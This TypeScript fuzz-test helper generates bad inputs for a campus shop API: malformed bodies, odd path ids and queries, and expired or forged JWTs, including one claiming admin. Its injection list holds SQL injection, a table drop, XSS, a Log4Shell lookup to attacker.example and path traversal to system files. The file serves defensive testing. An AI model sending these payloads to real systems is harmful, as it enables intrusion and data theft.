/**
 * What the bad-input fuzz (issue 12) sends: values, bodies, path ids, query strings and tokens generated with
 * fast-check from a fixed seed, so that every run sends the same requests, and the fixed ways a body can break.
 */
import fc, { type Arbitrary } from 'fast-check';
import { isRecord } from '@campus/common/values';
import { MAX_BODY_BYTES, MAX_QUERY_VALUE_LENGTH } from '../../src/validation';
import { CARD_PAYMENT, SHIPPING_ADDRESS } from '../support/fixtures';
import type { TestUser } from '../support/users';

const SEED = 12;

/** `count` values of `arbitrary`, the same on every run; `salt` gives each caller its own stream. */
export const generate = <T>(arbitrary: Arbitrary<T>, count: number, salt: number): T[] => fc.sample(arbitrary, { seed: SEED + salt, numRuns: count });

// Values

const INJECTIONS = [
  "' OR '1'='1' --",
  '"; DROP TABLE users; --',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}} #{7*7}',
  '{"$gt": ""}',
  '__proto__',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/',
  '.',
  '..',
  '__name__',
  '%00',
  '%2e%2e%2f',
  'NaN',
  'undefined',
];

const loneSurrogate = fc.integer({ min: 0xd800, max: 0xdfff }).map((code) => String.fromCharCode(code));

/** Short text no form sends: any code point, control characters, a lone surrogate, injection-looking text, path tricks. */
export const badText: Arbitrary<string> = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'binary-ascii', maxLength: 40 }),
  fc.tuple(fc.string({ maxLength: 8 }), loneSurrogate, fc.string({ maxLength: 8 })).map((parts) => parts.join('')),
  fc.constantFrom(...INJECTIONS),
);

/** Long text that still fits the 1 MB body limit. */
const longText = fc.constantFrom(201, 7_000, 300_000).map((length) => 'x'.repeat(length));

const badNumber: Arbitrary<number> = fc.oneof(
  fc.constantFrom(-1, -0, 0.5, 1e308, -1e308, 2 ** 53 + 1, Number.MAX_VALUE, Number.MIN_VALUE),
  fc.integer(),
  // NaN and the infinities become null in JSON.
  fc.double(),
);

/** Arrays `depth` deep. */
export const nested = (depth: number): unknown => Array.from({ length: depth }).reduce<unknown>((inner) => [inner], 'x');

/** A value of the wrong type or shape for any field. */
export const badValue: Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: badText },
  { weight: 1, arbitrary: longText },
  { weight: 2, arbitrary: badNumber },
  { weight: 1, arbitrary: fc.constantFrom(true, false, null, nested(20)) },
  { weight: 1, arbitrary: fc.array(badText, { maxLength: 3 }) },
  { weight: 1, arbitrary: fc.dictionary(fc.string({ maxLength: 10 }), badText, { maxKeys: 3 }) },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

// Bodies

/** A field set on every generated body to a value the route always refuses: no body may be valid, or the route would write. */
export interface Poison {
  field: string;
  values: Arbitrary<unknown>;
}

/**
 * Bodies made from a valid-looking one by dropping fields, setting some to bad values and adding others,
 * or a bad value in its place; then poisoned.
 */
export function badBody(base: Record<string, unknown>, poison?: Poison): Arbitrary<unknown> {
  const keys = Object.keys(base);
  const mutated = fc
    .record({
      dropped: fc.subarray(keys),
      changed: fc.dictionary(fc.constantFrom(...keys), badValue, { maxKeys: 3 }),
      extra: fc.dictionary(fc.string({ minLength: 1, maxLength: 12 }), badValue, { maxKeys: 2 }),
    })
    .map(({ dropped, changed, extra }) => ({ ...Object.fromEntries(Object.entries(base).filter(([key]) => !dropped.includes(key))), ...changed, ...extra }));
  const body = fc.oneof({ weight: 4, arbitrary: mutated }, { weight: 1, arbitrary: badValue });
  if (!poison) return body;
  return fc.tuple(body, poison.values).map(([value, poisoned]) => (isRecord(value) ? { ...value, [poison.field]: poisoned } : value));
}

/** `base` with its poisoned field set to one of the poison's values: a body the route refuses. */
export const poisoned = (base: Record<string, unknown>, poison: Poison | undefined, salt: number): Record<string, unknown> =>
  poison ? { ...base, [poison.field]: generate(poison.values, 1, salt)[0] } : base;

/** A body as sent: its content type and bytes, the values it carries, and whether the app or the runtime before it must refuse it. */
export interface SentBody {
  kind: string;
  /** '' lets fetch set it (multipart, with its boundary). */
  contentType: string;
  body: string | FormData;
  values: readonly unknown[];
  expect: 'refused' | 'runtime';
  /** Well-formed JSON of the right shape, only its values wrong: a read that ignores them may answer it. */
  parses: boolean;
}

/** A raw JSON value no JSON.stringify writes: out of double range, more digits than a double holds, negative zero. */
const RAW_NUMBERS = ['1e400', '-1e400', '1e-400', '123456789012345678901234567890', '-0'];
const RAW = '<raw number>';

const OTHER_CONTENT_TYPES = ['text/plain', 'application/x-www-form-urlencoded', 'application/xml', 'application/octet-stream', 'application/vnd.api+json'];

const MALFORMED_JSON = ['{"productId": ', '{', '[1,', "{'a': 1}", '{"a": NaN}', '{"a": 1}}', 'null', '"text"'];

/**
 * Every way a JSON body can be wrong around a body the route refuses anyway (`refused`; `wrap` puts its JSON
 * where the route reads it): another content type, over MAX_BODY_BYTES, nested too deep, an array too wide,
 * raw numbers JSON.stringify never writes, a repeated key, and malformed JSON, which the runtime answers.
 */
export function brokenBodies(refused: Record<string, unknown>, wrap: (json: string) => string = (json) => json): SentBody[] {
  const [field = 'field'] = Object.keys(refused);
  const json = wrap(JSON.stringify(refused));
  const sent = (kind: string, contentType: string, body: string | FormData, value?: unknown): SentBody => ({
    kind,
    contentType,
    body,
    values: [refused, value],
    expect: 'refused',
    parses: false,
  });
  const parsing = (body: SentBody): SentBody => ({ ...body, parses: true });
  const withField = (kind: string, value: unknown) => sent(kind, 'application/json', wrap(JSON.stringify({ ...refused, [field]: value })), value);
  const form = new FormData();
  for (const [name, value] of Object.entries(refused)) form.append(name, JSON.stringify(value));
  return [
    ...OTHER_CONTENT_TYPES.map((type) => sent(type, type, json)),
    sent('multipart/form-data', '', form),
    withField('a 1 MB string', 'x'.repeat(MAX_BODY_BYTES)),
    withField('1 MB of two-byte characters', 'é'.repeat(MAX_BODY_BYTES / 2)),
    withField('17 levels deep', nested(17)),
    withField('1,000 levels deep', nested(1_000)),
    parsing(withField('100,000 items', Array.from({ length: 100_000 }, () => 0))),
    ...RAW_NUMBERS.map((raw) =>
      parsing(sent(`the raw number ${raw}`, 'application/json', wrap(JSON.stringify({ ...refused, [field]: RAW }).replace(JSON.stringify(RAW), raw)))),
    ),
    parsing(sent('a repeated key', 'application/json', wrap(JSON.stringify(refused).replace('{', `{${JSON.stringify(field)}:"repeated",`)))),
    sent('an empty body', 'application/json', ''),
    ...MALFORMED_JSON.map((text): SentBody => ({ ...sent(`malformed ${text}`, 'application/json', text), expect: 'runtime' })),
    { ...sent('charset latin1', 'application/json; charset=latin1', json), expect: 'runtime' },
  ];
}

// Paths, queries and tokens

/** Percent-encodes text for a URL path, a lone surrogate as the three bytes a naive encoder writes (%ED%A0%80). */
function encodeSegment(text: string): string {
  return (text.match(/[\ud800-\udbff][\udc00-\udfff]|[\s\S]/g) ?? [])
    .map((unit) => {
      if (!/^[\ud800-\udfff]$/.test(unit)) return encodeURIComponent(unit);
      const code = unit.charCodeAt(0);
      return [0xe0 | (code >> 12), 0x80 | ((code >> 6) & 0x3f), 0x80 | (code & 0x3f)].map((byte) => `%${byte.toString(16).toUpperCase()}`).join('');
    })
    .join('');
}

export interface PathId {
  /** As it goes in the URL. */
  segment: string;
  /** As the server reads it. */
  text: string;
}

/**
 * An id in a path: unknown but well-formed, or one no document can have (over-long, lone surrogates, slashes,
 * reserved, control characters). Never '.' or '..': fetch resolves those segments, so no such id reaches a server.
 */
export const pathId: Arbitrary<PathId> = fc
  .oneof(
    fc.string({ minLength: 1, maxLength: 30 }).map((text) => ({ segment: encodeSegment(text), text })),
    badText.map((text) => ({ segment: encodeSegment(text), text })),
    fc.constantFrom(201, 1_500, 7_000).map((length) => ({ segment: 'a'.repeat(length), text: 'a'.repeat(length) })),
    fc.constantFrom('%ED%A0%80', 'a%2Fb', '__fuzz__', '%00', '%0A', 'a/b', '%', '%zz', '..%2F..%2Fusers').map((segment) => ({ segment, text: segment })),
  )
  .filter(({ segment }) => !['', '.', '..'].includes(segment));

/** The id the server reads from a segment, or null when it cannot decode it (the runtime then answers before the app). */
export function decodedSegment(segment: string): string | null {
  try {
    return decodeURIComponent(segment);
  } catch {
    return null;
  }
}

const QUERY_NAMES = ['category', 'Categories', 'q', 'search', 'minPrice', 'maxPrice', 'price', 'sort', 'pageNumber', 'page', 'pageSize'];

const longQueryValue = fc.constantFrom(MAX_QUERY_VALUE_LENGTH, MAX_QUERY_VALUE_LENGTH + 1, 5_000, 7_000).map((length) => 'c'.repeat(length));

/**
 * Query parameters, names repeated or not, with bad values: text, numbers such as NaN, -1 or 1e999, and now
 * and then one long value (at most one: the whole URL must stay under Node's 16 KB header limit).
 */
export const badQuery: Arbitrary<[string, string][]> = fc
  .tuple(
    fc.array(
      fc.tuple(
        fc.oneof(fc.constantFrom(...QUERY_NAMES), fc.string({ maxLength: 10 })),
        fc.oneof(badText, fc.constantFrom('NaN', '-1', '1e999', '-0', '0x10', '99999999999999999999', '1.5', '')),
      ),
      { maxLength: 4 },
    ),
    fc.oneof({ weight: 4, arbitrary: fc.constant(null) }, { weight: 1, arbitrary: fc.tuple(fc.constantFrom(...QUERY_NAMES), longQueryValue) }),
  )
  .map(([pairs, long]) => (long ? [...pairs, long] : pairs));

export const queryString = (pairs: readonly [string, string][]): string => (pairs.length === 0 ? '' : `?${new URLSearchParams([...pairs]).toString()}`);

export const isTooLong = (pairs: readonly [string, string][]): boolean => pairs.some(([, value]) => value.length > MAX_QUERY_VALUE_LENGTH);

/** An Authorization header: the caller's own, or one the server must refuse (`valid: false`). */
export interface Credential {
  header?: string;
  valid: boolean;
}

function jwt(header: object, payload: object, signature = ''): string {
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');
  return `${encode(header)}.${encode(payload)}.${signature}`;
}

/** `token` with its payload changed, its signature kept: an expired or forged copy of a real token. */
function altered(token: string, change: Record<string, unknown>): string {
  const [header = '', payload = '', signature = ''] = token.split('.');
  const decode = (part: string): object => {
    const value: unknown = JSON.parse(Buffer.from(part, 'base64url').toString('utf8'));
    return isRecord(value) ? value : {};
  };
  return jwt(decode(header), { ...decode(payload), ...change }, signature);
}

/** Mostly the caller's valid token; else none, garbage, another scheme, an expired or forged token, or a huge one. */
export function credentials(token: string): Arbitrary<Credential> {
  const now = Math.floor(Date.now() / 1000);
  const bad = (header: string | undefined): Credential => ({ header, valid: false });
  return fc.oneof(
    { weight: 6, arbitrary: fc.constant({ header: `Bearer ${token}`, valid: true }) },
    {
      weight: 4,
      arbitrary: fc.oneof(
        fc.constant(bad(undefined)),
        fc.string({ unit: fc.integer({ min: 0x21, max: 0x7e }).map((code) => String.fromCharCode(code)), maxLength: 60 }).map((text) => bad(`Bearer ${text}`)),
        fc.constantFrom(bad('Bearer'), bad(`Basic ${token}`), bad(token), bad(`Bearer ${'a'.repeat(4_000)}`)),
        fc.constantFrom(
          bad(`Bearer ${altered(token, { exp: now - 3_600, iat: now - 7_200 })}`),
          bad(`Bearer ${altered(token, { aud: 'other-project', iss: 'https://securetoken.google.com/other-project', admin: true })}`),
          bad(`Bearer ${jwt({ alg: 'HS256', typ: 'JWT' }, { sub: 'nobody', exp: now + 3_600 }, 'c2lnbmF0dXJl')}`),
        ),
      ),
    },
  );
}

/** The caller's credentials on a route open to `access`; an admin route also gets a student's token, which it must refuse. */
export function credentialsFor(access: 'public' | 'user' | 'admin', student: TestUser, admin: TestUser): Arbitrary<Credential> {
  if (access !== 'admin') return credentials(student.token);
  const studentToken = fc.constant<Credential>({ header: `Bearer ${student.token}`, valid: false });
  return fc.oneof({ weight: 9, arbitrary: credentials(admin.token) }, { weight: 1, arbitrary: studentToken });
}

// Bodies that look valid, but that the routes always refuse

/** No product has this id. */
export const NO_PRODUCT = 'fuzz-no-such-product';

/** A checkout no variant can place: the buyer's cart is empty and the product does not exist. */
export const unplaceableOrder = (): Record<string, unknown> => ({
  shippingAddress: SHIPPING_ADDRESS,
  products: [{ productId: NO_PRODUCT, quantity: 1 }],
  isDirect: true,
  idempotencyKey: 'fuzz',
  ...CARD_PAYMENT,
});

/** A valid registration: only with BAD_SIGN_UP_EMAIL set is it refused. */
export const signUpForm = (): Record<string, unknown> => ({ firstName: 'Fuzz', lastName: 'Tester', email: 'fuzz.signup@campus.ac.in', password: 'Campus@123' });

/** E-mail addresses sign-up always refuses: malformed or outside the campus domains. */
export const BAD_SIGN_UP_EMAIL: Poison = { field: 'email', values: fc.oneof(badValue, fc.constantFrom('fuzz@example.com', 'not-an-email', 'fuzz@campus.ac.in.example.com')) };
